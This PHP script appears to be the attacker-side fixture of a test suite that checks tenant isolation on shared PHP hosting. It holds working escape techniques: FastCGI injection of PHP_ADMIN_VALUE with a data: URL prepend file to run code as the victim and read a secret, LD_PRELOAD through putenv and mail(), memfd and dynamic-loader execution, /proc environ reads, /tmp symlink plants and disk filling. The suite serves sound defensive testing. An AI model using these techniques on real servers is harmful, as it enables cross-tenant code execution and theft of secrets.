<?php
// The attacker's side of the hostile-tenant suite (crates/corral/tests/pens.rs).
// Installed in the attacker's docroot and fetched through the web server:
// `?probe=NAME&...` runs one probe as the attacker's PHP user and prints
// `key=value` lines (newlines in values are escaped as \n). Native probes
// start the test-built `pens-native` the ways a tenant could: from its own
// tree, from a copy in its writable tmp, or from a memfd via python3.
//
// This script judges nothing: it reports what happened; the test decides
// whether that is an escape.

header('Content-Type: text/plain');
ignore_user_abort(true);
set_time_limit(120);

function out($k, $v) {
    if (is_bool($v)) {
        $v = $v ? 'yes' : 'no';
    }
    echo $k, '=', str_replace(["\\", "\n", "\r"], ["\\\\", "\\n", "\\r"], (string)$v), "\n";
    @flush();
}

function arg($k, $default = '') {
    return isset($_GET[$k]) ? (string)$_GET[$k] : $default;
}

function last_error() {
    $e = error_get_last();
    error_clear_last();
    return $e ? $e['message'] : '';
}

function fn_usable($f) {
    if (!function_exists($f)) {
        return false;
    }
    $disabled = array_map('trim', explode(',', (string)ini_get('disable_functions')));
    return !in_array($f, $disabled, true);
}

// ------------------------------------------------------------------ native

// Runs `cmd` (an argv array), feeding it `stdin`; returns [stdout, exit
// code, signal, stderr or why it could not run].
function run($cmd, $timeout = 60, $stdin = '') {
    if (!fn_usable('proc_open')) {
        return [null, null, null, 'proc_open is disabled'];
    }
    $p = @proc_open($cmd, [0 => ['pipe', 'r'], 1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
    if (!is_resource($p)) {
        return [null, null, null, 'proc_open failed: ' . last_error()];
    }
    if ($stdin !== '') {
        @fwrite($pipes[0], $stdin);
    }
    fclose($pipes[0]);
    $stdout = '';
    $stderr = '';
    $deadline = microtime(true) + $timeout;
    stream_set_blocking($pipes[1], false);
    stream_set_blocking($pipes[2], false);
    while (true) {
        $r = [$pipes[1], $pipes[2]];
        $w = $e = null;
        if (@stream_select($r, $w, $e, 0, 200000) > 0) {
            foreach ($r as $s) {
                $chunk = fread($s, 65536);
                if ($s === $pipes[1]) {
                    $stdout .= $chunk;
                } else {
                    $stderr .= $chunk;
                }
            }
        }
        $st = proc_get_status($p);
        if (!$st['running']) {
            $stdout .= stream_get_contents($pipes[1]);
            $stderr .= stream_get_contents($pipes[2]);
            break;
        }
        if (microtime(true) > $deadline) {
            proc_terminate($p, 9);
            usleep(100000);
            $st = proc_get_status($p);
            $stderr .= "(timed out after {$timeout}s)";
            break;
        }
    }
    fclose($pipes[1]);
    fclose($pipes[2]);
    proc_close($p);
    $sig = $st['signaled'] ? $st['termsig'] : 0;
    return [$stdout, $st['exitcode'], $sig, trim($stderr)];
}

// The dynamic loader, which runs a binary it can read without exec rights.
function loader() {
    foreach (['/lib64/ld-linux-x86-64.so.2', '/lib/ld-linux-aarch64.so.1', '/lib/ld-linux-armhf.so.3'] as $l) {
        if (@is_file($l)) {
            return $l;
        }
    }
    return null;
}

// Starts pens-native with `args` every way a hostile tenant could, until
// one works: its binary where its owner put it (`native`, outside the
// docroot) or where its PHP wrote it (`native2`, in uploads); exec'd,
// through the dynamic loader, or from a memfd (bytes fed to python3).
// Returns [method, stdout, exit code, signal, why the others failed].
function native($args, $timeout = 60) {
    $tries = [];
    $bins = array_values(array_filter([arg('native'), arg('native2')]));
    $ways = [];
    foreach ($bins as $i => $bin) {
        $where = $i === 0 ? 'own-tree' : 'uploads';
        $ways["$where-exec"] = function () use ($bin, $where) {
            if ($where === 'uploads') {
                @chmod($bin, 0700);
            }
            return [[$bin], ''];
        };
        $ways["$where-ld.so"] = function () use ($bin) {
            $l = loader();
            return $l === null ? null : [[$l, $bin], ''];
        };
    }
    $ways['memfd-python'] = function () use ($bins) {
        foreach ($bins as $bin) {
            $bytes = @file_get_contents($bin);
            if ($bytes !== false) {
                $py = 'import os,sys;d=sys.stdin.buffer.read();fd=os.memfd_create("pens",0);'
                    . 'f=os.fdopen(fd,"wb",closefd=False);f.write(d);f.flush();'
                    . 'os.execv("/proc/self/fd/%d"%fd,["pens-native"]+sys.argv[1:])';
                return [['/usr/bin/python3', '-c', $py], $bytes];
            }
        }
        return null;
    };
    foreach ($ways as $name => $way) {
        $w = $way();
        if ($w === null) {
            $tries[] = "$name: not possible (" . last_error() . ')';
            continue;
        }
        [$stdout, $code, $sig, $err] = run(array_merge($w[0], $args), $timeout, $w[1]);
        if ($stdout !== null && strpos($stdout, "native=ok\n") === 0) {
            return [$name, $stdout, $code, $sig, implode('; ', $tries)];
        }
        $tries[] = "$name: " . ($err !== '' ? substr($err, 0, 200) : "no output (exit $code, signal $sig)");
    }
    return [null, '', null, null, implode('; ', $tries)];
}

// Runs a native probe and echoes its lines with a prefix.
function native_out($args, $timeout = 60) {
    [$how, $stdout, $code, $sig, $why] = native($args, $timeout);
    out('native_launch', $how === null ? 'refused' : $how);
    if ($how === null) {
        out('native_refused', $why);
        return false;
    }
    foreach (explode("\n", trim($stdout)) as $l) {
        if ($l !== '' && $l !== 'native=ok') {
            echo 'n_', $l, "\n";
        }
    }
    out('native_exit', $code);
    out('native_signal', $sig);
    return true;
}

// ---------------------------------------------------------------- FastCGI

function fcgi_record($type, $content, $id = 1) {
    return pack('CCnnCx', 1, $type, $id, strlen($content), 0) . $content;
}

function fcgi_pair($k, $v) {
    $len = function ($n) { return $n < 128 ? chr($n) : pack('N', $n | 0x80000000); };
    return $len(strlen($k)) . $len(strlen($v)) . $k . $v;
}

// One FastCGI request; returns [connected?, stdout, stderr, error].
function fcgi($addr, $params) {
    $s = @stream_socket_client($addr, $errno, $errstr, 3);
    if (!$s) {
        return [false, '', '', "connect: $errstr ($errno)"];
    }
    stream_set_timeout($s, 10);
    $body = '';
    foreach ($params as $k => $v) {
        $body .= fcgi_pair($k, $v);
    }
    $req = fcgi_record(1, pack('nCx5', 1, 0)) . fcgi_record(4, $body) . fcgi_record(4, '')
        . fcgi_record(5, '');
    @fwrite($s, $req);
    $stdout = $stderr = '';
    $buf = '';
    while (!feof($s)) {
        $chunk = @fread($s, 65536);
        if ($chunk === false || $chunk === '') {
            $meta = stream_get_meta_data($s);
            if ($meta['timed_out'] || $chunk === false) {
                break;
            }
            continue;
        }
        $buf .= $chunk;
        while (strlen($buf) >= 8) {
            $h = unpack('Cver/Ctype/nid/nlen/Cpad', $buf);
            if (strlen($buf) < 8 + $h['len'] + $h['pad']) {
                break;
            }
            $content = substr($buf, 8, $h['len']);
            $buf = substr($buf, 8 + $h['len'] + $h['pad']);
            if ($h['type'] == 6) {
                $stdout .= $content;
            } elseif ($h['type'] == 7) {
                $stderr .= $content;
            } elseif ($h['type'] == 3) {
                fclose($s);
                return [true, $stdout, $stderr, ''];
            }
        }
    }
    fclose($s);
    return [true, $stdout, $stderr, 'no END_REQUEST'];
}

// ------------------------------------------------------------------ probes

$probe = arg('probe');
out('probe', $probe);
out('uid', function_exists('posix_getuid') ? posix_getuid() : getmyuid());

switch ($probe) {
case 'whoami':
    out('open_basedir', ini_get('open_basedir'));
    out('disable_functions', ini_get('disable_functions'));
    native_out(['hello']);
    break;

case 'fcgi_status_exec':
    // Code as the victim: auto_prepend_file from a data: URL, through the
    // victim's TCP status listener, with open_basedir lifted.
    $code = '<?php echo "PENSRCE uid=", function_exists("posix_getuid") ? posix_getuid() : getmyuid(), '
        . '" secret=", base64_encode((string)@file_get_contents(' . var_export(arg('secret_file'), true) . ')), "\n"; exit;';
    $ini = "allow_url_include=On\nauto_prepend_file=\"data://text/plain;base64," . base64_encode($code)
        . "\"\nopen_basedir=/\ndisable_functions=\n";
    $script = arg('script');
    [$ok, $so, $se, $e] = fcgi('tcp://' . arg('addr'), [
        'GATEWAY_INTERFACE' => 'CGI/1.1', 'REQUEST_METHOD' => 'GET',
        'SCRIPT_FILENAME' => $script, 'SCRIPT_NAME' => '/index.php', 'REQUEST_URI' => '/index.php',
        'DOCUMENT_ROOT' => dirname($script), 'SERVER_PROTOCOL' => 'HTTP/1.1', 'QUERY_STRING' => '',
        'SERVER_SOFTWARE' => 'pens', 'REMOTE_ADDR' => '127.0.0.1', 'SERVER_NAME' => 'victim',
        'PHP_ADMIN_VALUE' => $ini, 'PHP_VALUE' => $ini,
    ]);
    out('connected', $ok);
    out('error', $e);
    out('stdout', substr($so, 0, 2000));
    out('stderr', substr($se, 0, 500));
    if (preg_match('/PENSRCE uid=(\d+) secret=(\S*)/', $so, $m)) {
        out('ran_as', $m[1]);
        out('secret_read', base64_decode($m[2]));
    }
    break;

case 'fcgi_status_uris':
    [$ok, $so, $se, $e] = fcgi('tcp://' . arg('addr'), [
        'GATEWAY_INTERFACE' => 'CGI/1.1', 'REQUEST_METHOD' => 'GET',
        'SCRIPT_FILENAME' => arg('path'), 'SCRIPT_NAME' => arg('path'), 'REQUEST_URI' => arg('path') . '?full',
        'QUERY_STRING' => 'full', 'SERVER_PROTOCOL' => 'HTTP/1.1', 'REMOTE_ADDR' => '127.0.0.1',
    ]);
    out('connected', $ok);
    out('error', $e);
    out('stdout', substr($so, 0, 6000));
    break;

case 'victim_socket':
    [$ok, $so, $se, $e] = fcgi('unix://' . arg('sock'), [
        'REQUEST_METHOD' => 'GET', 'SCRIPT_FILENAME' => arg('script'), 'SCRIPT_NAME' => '/index.php',
    ]);
    out('connected', $ok);
    out('error', $e);
    out('stdout', substr($so, 0, 500));
    break;

case 'proc_list':
    // Every process this tenant can see, and those of the victim's uid.
    $victim = (int)arg('victim_uid');
    $seen = 0;
    $theirs = [];
    foreach (@scandir('/proc') ?: [] as $d) {
        if (!ctype_digit($d)) {
            continue;
        }
        $seen++;
        $st = @file_get_contents("/proc/$d/status");
        if ($st !== false && preg_match('/^Uid:\s+(\d+)/m', $st, $m) && (int)$m[1] === $victim) {
            $cmd = @file_get_contents("/proc/$d/cmdline");
            $theirs[] = "$d:" . ($cmd === false ? '(cmdline unreadable)' : str_replace("\0", ' ', trim($cmd)));
        }
    }
    out('visible_pids', $seen);
    out('victim_pids', count($theirs));
    out('victim_cmdlines', implode(' | ', array_slice($theirs, 0, 8)));
    break;

case 'proc_private':
    // What /proc says about one victim pid the test named.
    $pid = (int)arg('pid');
    out('exists', file_exists("/proc/$pid"));
    foreach (['cmdline', 'environ', 'maps', 'status', 'io', 'stack'] as $f) {
        $v = @file_get_contents("/proc/$pid/$f");
        out($f, $v === false ? 'denied: ' . last_error() : 'read ' . strlen($v) . ' bytes');
        if ($f === 'environ' && $v !== false) {
            out('environ_text', substr(str_replace("\0", ' ', $v), 0, 500));
        }
    }
    foreach (['cwd', 'root', 'exe'] as $f) {
        $v = @readlink("/proc/$pid/$f");
        out($f, $v === false ? 'denied' : $v);
    }
    $fds = @scandir("/proc/$pid/fd");
    out('fd', $fds === false ? 'denied' : count($fds) - 2 . ' entries');
    break;

case 'tmp_plant':
    // Files (and a symlink) for the victim to find in shared temp dirs.
    $tok = arg('tok');
    foreach (['/tmp', '/var/tmp', '/dev/shm'] as $d) {
        $f = "$d/pens-$tok-plant";
        $ok = @file_put_contents($f, "planted by the attacker $tok") !== false;
        @chmod($f, 0666);
        out("plant_$d", $ok ? 'written' : 'failed: ' . last_error());
    }
    $ok = @symlink(arg('home') . '/tmp/pens-target', "/tmp/pens-$tok-link");
    out('plant_symlink', $ok ? 'written' : 'failed: ' . last_error());
    native_out(['posixshm', $tok]);
    break;

case 'tmp_read':
    // The victim's temporary files: read them, and look for its names.
    $victim = (int)arg('victim_uid');
    foreach (explode(',', arg('files')) as $f) {
        $v = @file_get_contents($f);
        out("read_$f", $v === false ? 'failed: ' . last_error() : "got: $v");
    }
    $names = [];
    foreach (['/tmp', '/var/tmp', '/dev/shm'] as $d) {
        foreach (@scandir($d) ?: [] as $n) {
            if ($n !== '.' && $n !== '..' && @fileowner("$d/$n") === $victim) {
                $names[] = "$d/$n";
            }
        }
    }
    out('victim_names', implode(' ', array_slice($names, 0, 20)));
    break;

case 'read_files':
    // Any of these readable? Print what was read (clipped).
    foreach (explode(',', arg('files')) as $f) {
        $v = @file_get_contents($f);
        out("file_$f", $v === false ? 'denied: ' . last_error() : 'read: ' . substr($v, 0, 3000));
    }
    foreach (explode(',', arg('dirs')) as $d) {
        if ($d === '') {
            continue;
        }
        $l = @scandir($d);
        out("dir_$d", $l === false ? 'denied: ' . last_error() : 'listed: ' . implode(' ', array_slice($l, 0, 30)));
    }
    if (arg('cat') !== '') {
        // The same through a native process (cat), in case PHP is the one refusing.
        [$so, $code, $sig, $err] = run(['/bin/cat', arg('cat')]);
        out('cat', $so === null ? "could not run: $err" : ($code === 0 ? 'read: ' . substr($so, 0, 3000) : "exit $code: $err"));
    }
    break;

case 'write_files':
    foreach (explode(',', arg('files')) as $f) {
        $ok = @file_put_contents($f, 'written by the attacker ' . arg('tok'));
        out("write_$f", $ok === false ? 'denied: ' . last_error() : 'written');
    }
    break;

case 'symlink':
    // A symlink in the attacker's own uploads to the victim's file.
    $link = arg('link');
    @unlink($link);
    $ok = @symlink(arg('target'), $link);
    out('symlink', $ok ? 'made' : 'failed: ' . last_error());
    break;

case 'upload_php':
    $ok = @file_put_contents(arg('path'), '<?php echo "PENS" . "EXEC uid=", getmyuid(), "\n";');
    out('upload', $ok === false ? 'failed: ' . last_error() : 'written');
    break;

case 'ld_preload':
    // LD_PRELOAD through putenv() and then anything that runs a shell.
    $mark = arg('mark');
    @unlink($mark);
    out('putenv_usable', fn_usable('putenv'));
    out('mail_usable', fn_usable('mail'));
    out('mb_send_mail_usable', fn_usable('mb_send_mail'));
    out('error_log_usable', fn_usable('error_log'));
    if (fn_usable('putenv')) {
        putenv('LD_PRELOAD=' . arg('so'));
        putenv("PENS_MARK=$mark");
        if (fn_usable('mail')) {
            @mail('nobody@localhost', 'pens', 'pens');
        }
        if (fn_usable('mb_send_mail')) {
            @mb_send_mail('nobody@localhost', 'pens', 'pens');
        }
        if (fn_usable('error_log')) {
            @error_log('pens', 1, 'nobody@localhost');
        }
        putenv('LD_PRELOAD');
    }
    clearstatcache();
    $m = @file_get_contents($mark);
    out('marker', $m === false ? 'absent' : trim($m));
    break;

case 'sysv_php':
    // SysV objects from PHP's own functions, left behind when the request ends.
    $key = (int)arg('key');
    $size = (int)arg('mb', '64') << 20;
    out('shmop_usable', fn_usable('shmop_open'));
    if (fn_usable('shmop_open')) {
        $id = @shmop_open($key, 'c', 0644, $size);
        out('shmop_open', $id ? 'created ' . shmop_size($id) . ' bytes' : 'failed: ' . last_error());
        if ($id) {
            shmop_write($id, 'pens-' . arg('tok'), 0);
        }
    }
    out('shm_attach_usable', fn_usable('shm_attach'));
    if (fn_usable('shm_attach')) {
        $s = @shm_attach($key + 1, 65536, 0666);
        out('shm_attach', $s ? 'created' : 'failed: ' . last_error());
        if ($s) {
            @shm_put_var($s, 1, 'pens-' . arg('tok'));
        }
    }
    out('sem_get_usable', fn_usable('sem_get'));
    if (fn_usable('sem_get')) {
        out('sem_get', @sem_get($key + 2, 1, 0666, false) ? 'created' : 'failed: ' . last_error());
    }
    out('msg_get_queue_usable', fn_usable('msg_get_queue'));
    if (fn_usable('msg_get_queue')) {
        $q = @msg_get_queue($key + 3, 0666);
        out('msg_get_queue', $q ? 'created' : 'failed: ' . last_error());
        if ($q) {
            @msg_send($q, 1, 'pens-' . arg('tok'));
        }
    }
    break;

case 'opcache':
    // php-fpm shares one OPcache between pools: the victim's scripts show.
    out('opcache_get_status_usable', fn_usable('opcache_get_status'));
    $st = fn_usable('opcache_get_status') ? @opcache_get_status(true) : false;
    if (!$st) {
        out('status', 'unavailable: ' . last_error());
        break;
    }
    $scripts = array_keys($st['scripts'] ?? []);
    out('cached_scripts', count($scripts));
    $prefix = arg('victim_prefix');
    $theirs = array_values(array_filter($scripts, function ($s) use ($prefix) {
        return strpos($s, $prefix) === 0;
    }));
    out('victim_scripts', implode(' ', array_slice($theirs, 0, 10)));
    break;

case 'control_socket':
    $s = @stream_socket_client('unix://' . arg('sock'), $errno, $errstr, 2);
    if (!$s) {
        out('connect', "failed: $errstr ($errno)");
        break;
    }
    out('connect', 'ok');
    stream_set_timeout($s, 5);
    fwrite($s, "status\n");
    out('reply', substr((string)stream_get_contents($s), 0, 2000));
    break;

case 'disk_fill':
    // Writes into its own tmp until the kernel says no (or the cap).
    $f = arg('home') . '/tmp/pens-fill';
    $cap = (int)arg('cap_mb') << 20;
    $h = @fopen($f, 'w');
    if (!$h) {
        out('open', 'failed: ' . last_error());
        break;
    }
    $chunk = str_repeat('x', 1 << 20);
    $written = 0;
    $why = 'cap reached';
    while ($written < $cap) {
        $n = @fwrite($h, $chunk);
        if ($n === false || $n < strlen($chunk)) {
            $written += (int)$n;
            $why = 'write refused: ' . last_error();
            break;
        }
        $written += $n;
    }
    if (!@fflush($h) && $why === 'cap reached') {
        $why = 'flush refused: ' . last_error();
    }
    fclose($h);
    clearstatcache();
    out('written_mb', round($written / 1048576, 1));
    out('on_disk_mb', round(((int)@filesize($f)) / 1048576, 1));
    out('stopped', $why);
    @unlink($f);
    break;

case 'burn':
    // CPU for `ms` milliseconds (the noisy-neighbour benchmark's attacker).
    $until = microtime(true) + (int)arg('ms', '200') / 1000;
    $x = 0;
    while (microtime(true) < $until) {
        for ($i = 0; $i < 10000; $i++) {
            $x = ($x * 31 + $i) % 1000003;
        }
    }
    out('burned', $x);
    break;

case 'native':
    // Any native probe: args are `a0`, `a1`, ...
    $args = [];
    for ($i = 0; arg("a$i", null) !== null; $i++) {
        $args[] = arg("a$i");
    }
    native_out($args, (int)arg('timeout', '60'));
    break;

default:
    http_response_code(400);
    out('error', "unknown probe $probe");
}
out('end', 'yes');
